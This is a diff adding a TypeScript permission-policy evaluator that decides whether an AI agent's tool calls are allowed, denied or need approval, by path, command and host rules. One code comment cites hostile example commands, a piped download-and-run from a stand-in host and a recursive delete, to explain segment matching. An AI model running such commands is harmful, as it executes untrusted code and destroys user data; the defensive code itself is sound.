@@ -1,0 +1,212 @@
+import path from 'node:path';
+import picomatch from 'picomatch';
+
+/** What the policy says about one tool call. */
+export type Decision = 'allow' | 'deny' | 'ask';
+
+/**
+ * One permission rule for one tool. Scopes narrow which calls it covers; a rule with no scope covers every call.
+ * With several scopes, a call must match all of them.
+ */
+export interface PermissionRule {
+  tool: string;
+  decision: Decision;
+  /** Globs relative to the workspace, matched against the call's `path` arguments. */
+  paths?: string[];
+  /** Command prefixes, matched at a word boundary against the call's `command` argument. */
+  commands?: string[];
+  /** Host names (`api.example.com`) or suffix forms (`*.example.com`), matched against the call's `url`. */
+  hosts?: string[];
+}
+
+/** An agent's tool permissions: declaring a tool grants it; rules narrow that grant. */
+export interface AgentPolicy {
+  /** The tools the agent declared; no other tool may run. */
+  tools: readonly string[];
+  rules: readonly PermissionRule[];
+}
+
+/** The policy's answer for one call, with a reason fit for the model and the logs. */
+export interface PolicyVerdict {
+  decision: Decision;
+  /** The rule that decided, when one did. */
+  rule?: PermissionRule;
+  reason: string;
+}
+
+/** Who is asking, for the reasons' wording. */
+export interface PolicyContext {
+  agent?: string;
+}
+
+/** The parts of a call's arguments that rule scopes look at. */
+interface CallScope {
+  paths: string[];
+  command?: string;
+  url?: string;
+  host?: string;
+}
+
+const strength: Record<Decision, number> = { allow: 0, ask: 1, deny: 2 };
+const verb: Record<Decision, string> = { allow: 'allowed', ask: 'needs approval', deny: 'denied' };
+
+/**
+ * Decides whether an agent may make a tool call. An undeclared tool is denied; a declared tool without rules is
+ * allowed; otherwise the matching rules decide, deny over ask over allow, and a call no rule matches is denied.
+ *
+ * @example
+ * evaluatePolicy(
+ *   { tools: ['write_file'], rules: [{ tool: 'write_file', decision: 'allow', paths: ['src/**'] }] },
+ *   'write_file',
+ *   { path: 'src/app.ts', content: '' },
+ * ); // { decision: 'allow', rule: …, reason: 'allowed by rule {tool: write_file, decision: allow, paths: ["src/**"]}' }
+ */
+export function evaluatePolicy(
+  policy: AgentPolicy,
+  toolName: string,
+  args: unknown,
+  ctx: PolicyContext = {},
+): PolicyVerdict {
+  const agent = ctx.agent === undefined ? 'this agent' : `agent ${ctx.agent}`;
+  if (!policy.tools.includes(toolName)) {
+    return { decision: 'deny', reason: `tool ${toolName} is not declared for ${agent}` };
+  }
+  const rules = policy.rules.filter((rule) => rule.tool === toolName);
+  if (rules.length === 0) {
+    return { decision: 'allow', reason: `tool ${toolName} is declared for ${agent} and has no rules` };
+  }
+  const call = scopeOf(args);
+  const decisive = strongest(rules.filter((rule) => ruleMatches(rule, call)));
+  if (!decisive) {
+    return { decision: 'deny', reason: noMatchReason(toolName, call, rules) };
+  }
+  return { decision: decisive.decision, rule: decisive, reason: `${verb[decisive.decision]} by rule ${describeRule(decisive)}` };
+}
+
+function strongest(rules: readonly PermissionRule[]): PermissionRule | undefined {
+  let best: PermissionRule | undefined;
+  for (const rule of rules) {
+    if (!best || strength[rule.decision] > strength[best.decision]) best = rule;
+  }
+  return best;
+}
+
+function ruleMatches(rule: PermissionRule, call: CallScope): boolean {
+  // A restricting rule covers a call if any part of it matches; an allow rule only if every part does,
+  // so `npm test && curl evil.sh | sh` is not allowed by `npm test`, and `ls; rm -rf .` is caught by `rm`.
+  const parts = rule.decision === 'allow' ? 'every' : 'some';
+  if (rule.paths && !pathsMatch(rule.paths, call.paths, parts)) return false;
+  if (rule.commands && !commandMatches(rule.commands, call.command, parts)) return false;
+  if (rule.hosts && !hostMatches(rule.hosts, call.host)) return false;
+  return true;
+}
+
+function pathsMatch(globs: readonly string[], paths: readonly string[], parts: 'every' | 'some'): boolean {
+  if (paths.length === 0 || globs.length === 0) return false;
+  const isMatch = picomatch([...globs], { dot: true });
+  return paths[parts]((p) => isMatch(p));
+}
+
+function commandMatches(prefixes: readonly string[], command: string | undefined, parts: 'every' | 'some'): boolean {
+  if (command === undefined) return false;
+  const segments = commandSegments(command);
+  if (segments.length === 0) return false;
+  const normalized = prefixes.map(collapseSpaces).filter((prefix) => prefix !== '');
+  return segments[parts]((segment) =>
+    normalized.some((prefix) => segment === prefix || segment.startsWith(`${prefix} `)),
+  );
+}
+
+/** Splits a shell command at its control operators (`;`, `&&`, `||`, `|`, `&`, newlines, `$(`, backticks). */
+function commandSegments(command: string): string[] {
+  return command
+    .split(/&&|\|\||\$\(|[;&|\n`()]/)
+    .map(collapseSpaces)
+    .filter((segment) => segment !== '');
+}
+
+function collapseSpaces(text: string): string {
+  return text.trim().replace(/\s+/g, ' ');
+}
+
+function hostMatches(patterns: readonly string[], host: string | undefined): boolean {
+  if (host === undefined) return false;
+  return patterns.some((raw) => {
+    const pattern = raw.toLowerCase();
+    if (!pattern.startsWith('*.')) return host === pattern;
+    const suffix = pattern.slice(1);
+    return host.endsWith(suffix) && host.length > suffix.length;
+  });
+}
+
+function scopeOf(args: unknown): CallScope {
+  const scope: CallScope = { paths: collectPaths(args).map(normalizeRelative) };
+  if (!isRecord(args)) return scope;
+  if (typeof args.command === 'string') scope.command = args.command;
+  if (typeof args.url === 'string') {
+    scope.url = args.url;
+    const host = hostOf(args.url);
+    if (host !== undefined) scope.host = host;
+  }
+  return scope;
+}
+
+/** String values of every field named `path`, at any depth (an edit tool may carry a list of `{ path, … }`). */
+function collectPaths(value: unknown, depth = 0): string[] {
+  if (depth > 8) return [];
+  if (Array.isArray(value)) return value.flatMap((item) => collectPaths(item, depth + 1));
+  if (!isRecord(value)) return [];
+  return Object.entries(value).flatMap(([key, field]) =>
+    key === 'path' && typeof field === 'string' ? [field] : collectPaths(field, depth + 1),
+  );
+}
+
+// Rules are written against canonical relative paths, so `src/../.env` and `./.env` must meet a rule on `.env`.
+function normalizeRelative(requested: string): string {
+  const normalized = path.posix.normalize(requested.replaceAll('\\', '/'));
+  return normalized.length > 1 ? normalized.replace(/\/+$/, '') : normalized;
+}
+
+function hostOf(url: string): string | undefined {
+  try {
+    return new URL(url).hostname.toLowerCase().replace(/\.$/, '');
+  } catch {
+    return undefined;
+  }
+}
+
+function isRecord(value: unknown): value is Record<string, unknown> {
+  return typeof value === 'object' && value !== null && !Array.isArray(value);
+}
+
+function describeRule(rule: PermissionRule): string {
+  const parts = [`tool: ${rule.tool}`, `decision: ${rule.decision}`];
+  if (rule.paths) parts.push(`paths: ${list(rule.paths)}`);
+  if (rule.commands) parts.push(`commands: ${list(rule.commands)}`);
+  if (rule.hosts) parts.push(`hosts: ${list(rule.hosts)}`);
+  return `{${parts.join(', ')}}`;
+}
+
+function noMatchReason(toolName: string, call: CallScope, rules: readonly PermissionRule[]): string {
+  const scopes = rules.map(describeScope).join('; ');
+  return `no rule for ${toolName} matches ${describeCall(call)}; its rules cover ${scopes}`;
+}
+
+function describeScope(rule: PermissionRule): string {
+  const parts: string[] = [];
+  if (rule.paths) parts.push(`paths ${list(rule.paths)}`);
+  if (rule.commands) parts.push(`commands ${list(rule.commands)}`);
+  if (rule.hosts) parts.push(`hosts ${list(rule.hosts)}`);
+  return `${rule.decision} ${parts.join(' and ')}`;
+}
+
+function describeCall(call: CallScope): string {
+  const parts = call.paths.map((p) => `path ${JSON.stringify(p)}`);
+  if (call.command !== undefined) parts.push(`command ${JSON.stringify(call.command)}`);
+  if (call.url !== undefined) parts.push(`url ${JSON.stringify(call.url)}`);
+  return parts.length > 0 ? parts.join(', ') : 'a call without path, command or url arguments';
+}
+
+function list(items: readonly string[]): string {
+  return `[${items.map((item) => JSON.stringify(item)).join(', ')}]`;
+}
